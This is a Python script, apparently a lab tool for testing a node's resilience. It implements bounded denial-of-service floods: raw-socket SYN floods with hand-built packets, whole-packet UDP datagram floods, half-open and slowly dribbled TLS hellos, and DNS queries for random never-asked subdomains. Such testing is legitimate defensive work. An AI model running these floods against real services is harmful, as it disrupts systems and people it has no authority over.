"""Floods of one kind, bounded in number: what a pod with raw sockets and no patience can do.

Run inside the node: flood_client.py KIND SOURCE DESTINATION PORT COUNT NAME
Kinds:
  syn         COUNT SYNs from as many source ports; nothing more is said
  half-open   COUNT connections, of which each sends the beginning of a hello and then stays silent
  slow        COUNT connections, of which each sends its hello byte after byte, too slowly
  datagrams   COUNT datagrams of a whole packet from as many source ports
  questions   COUNT questions for names below NAME that nobody has asked for before
Prints how many of them were sent, or opened. IPv4.
"""

import random
import socket
import struct
import sys
import time

from lab import tls_hello
from lab.raw_client import SYN, checksum

HOLD_SECONDS = 3
FIRST_PORT = 10000


def syn_packet(source, destination, port, source_port):
    tcp = struct.pack("!HHIIBBHHH", source_port, port, random.randrange(1 << 32), 0, 5 << 4, SYN, 64000, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + checksum(pseudo + tcp).to_bytes(2, "big") + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, source,
                       destination) + tcp


def flood_syn(source, destination, port, count, _):
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ends = socket.inet_aton(source), socket.inet_aton(destination)
    for number in range(count):
        out.sendto(syn_packet(*ends, port, FIRST_PORT + number), (destination, 0))
    return count


def flood_datagrams(source, destination, port, count, _):
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ends = socket.inet_aton(source), socket.inet_aton(destination)
    payload = b"\xc0\0\0\0\1" + bytes(1195)
    for number in range(count):
        udp = struct.pack("!HHHH", FIRST_PORT + number, port, 8 + len(payload), 0) + payload
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, socket.IPPROTO_UDP, 0, *ends)
        out.sendto(head + udp, (destination, 0))
    return count


def open_many(destination, port, count):
    opened = []
    for _ in range(count):
        connection = socket.socket()
        connection.settimeout(1)
        try:
            connection.connect((destination, port))
            opened.append(connection)
        except OSError:
            connection.close()
    return opened


def send_to_all(connections, piece):
    for connection in connections:
        try:
            connection.send(piece)
        except OSError:
            pass  # it was reset


def flood_half_open(_, destination, port, count, name):
    connections = open_many(destination, port, count)
    send_to_all(connections, tls_hello.client_hello(name)[:60])
    time.sleep(HOLD_SECONDS)
    return len(connections)


def flood_slow(_, destination, port, count, name):
    connections = open_many(destination, port, count)
    hello = tls_hello.client_hello(name)
    until, at = time.monotonic() + HOLD_SECONDS, 0
    while time.monotonic() < until and at < len(hello) - 1:
        send_to_all(connections, hello[at:at + 1])
        at += 1
        time.sleep(0.1)
    return len(connections)


def flood_questions(_, destination, port, count, name):
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(count):
        label = f"n{number}x{random.randrange(1 << 32):08x}".encode()
        labels = b"".join(bytes([len(part)]) + part for part in [label, *(p.encode() for p in name.split("."))])
        out.sendto(struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1",
                   (destination, port))
        if number % 50 == 0:
            time.sleep(0.005)
    return count


KINDS = {"syn": flood_syn, "half-open": flood_half_open, "slow": flood_slow, "datagrams": flood_datagrams,
         "questions": flood_questions}


def main(kind, source, destination, port, count, name):
    return KINDS[kind](source, destination, int(port), int(count), name)


if __name__ == "__main__":
    print(main(*sys.argv[1:]))
